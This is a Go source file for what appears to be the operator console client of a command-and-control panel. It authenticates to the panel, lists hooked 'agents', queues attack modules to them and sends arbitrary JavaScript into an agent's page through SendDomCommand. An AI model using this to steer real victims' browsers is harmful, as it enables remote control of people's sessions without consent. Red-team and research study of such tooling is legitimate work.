package ui

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"time"
)

// Session holds the authenticated HTTP client the console uses against
// the panel.
type Session struct {
	BaseURL string
	Token   string
	HTTP    *http.Client
}

func NewSession() *Session {
	return &Session{HTTP: &http.Client{Timeout: 15 * time.Second}}
}

// Login exchanges operator credentials for a bearer token.
func (s *Session) Login(baseURL, username, password string) error {
	s.BaseURL = strings.TrimRight(baseURL, "/")
	body, _ := json.Marshal(map[string]string{"username": username, "password": password})
	resp, err := s.HTTP.Post(s.BaseURL+"/login", "application/json", bytes.NewReader(body))
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("login rejected (status %d)", resp.StatusCode)
	}
	var tok struct {
		AccessToken string `json:"access_token"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&tok); err != nil {
		return err
	}
	s.Token = tok.AccessToken
	return nil
}

func (s *Session) do(method, path string, body any, out any) error {
	var reader *bytes.Reader
	if body != nil {
		raw, err := json.Marshal(body)
		if err != nil {
			return err
		}
		reader = bytes.NewReader(raw)
	} else {
		reader = bytes.NewReader(nil)
	}
	req, err := http.NewRequest(method, s.BaseURL+path, reader)
	if err != nil {
		return err
	}
	req.Header.Set("Authorization", "Bearer "+s.Token)
	if body != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := s.HTTP.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode >= http.StatusBadRequest {
		return fmt.Errorf("%s %s: status %d", method, path, resp.StatusCode)
	}
	if out != nil {
		return json.NewDecoder(resp.Body).Decode(out)
	}
	return nil
}

type agentsResponse struct {
	Active  map[string]struct {
		LastSeen int64 `json:"last_seen"`
	} `json:"active"`
	Dormant map[string]map[string]any `json:"dormant"`
}

func (s *Session) Agents() (*agentsResponse, error) {
	var out agentsResponse
	if err := s.do("GET", "/agents", nil, &out); err != nil {
		return nil, err
	}
	return &out, nil
}

type modulesResponse struct {
	Modules           []string `json:"modules"`
	AutoLoadedModules []string `json:"autoLoadedModules"`
}

func (s *Session) Modules() (*modulesResponse, error) {
	var out modulesResponse
	if err := s.do("GET", "/modules", nil, &out); err != nil {
		return nil, err
	}
	return &out, nil
}

func (s *Session) AgentDetail(id string) (map[string]any, error) {
	var out map[string]any
	if err := s.do("GET", "/agent/"+id, nil, &out); err != nil {
		return nil, err
	}
	return out, nil
}

func (s *Session) QueueModule(name, agentID string) error {
	return s.do("POST", "/module/"+name+"/"+agentID, nil, nil)
}

func (s *Session) RemoveModule(name, agentID string) error {
	return s.do("DELETE", "/module/"+name+"/"+agentID, nil, nil)
}

func (s *Session) SendDomCommand(agentID, js string) error {
	return s.do("POST", "/dom/"+agentID, map[string]string{"js": js}, nil)
}

func (s *Session) PushAgent(agentID string) error {
	return s.do("POST", "/push/"+agentID, nil, nil)
}

func (s *Session) DeleteAgent(agentID string) error {
	return s.do("DELETE", "/agent/"+agentID, nil, nil)
}
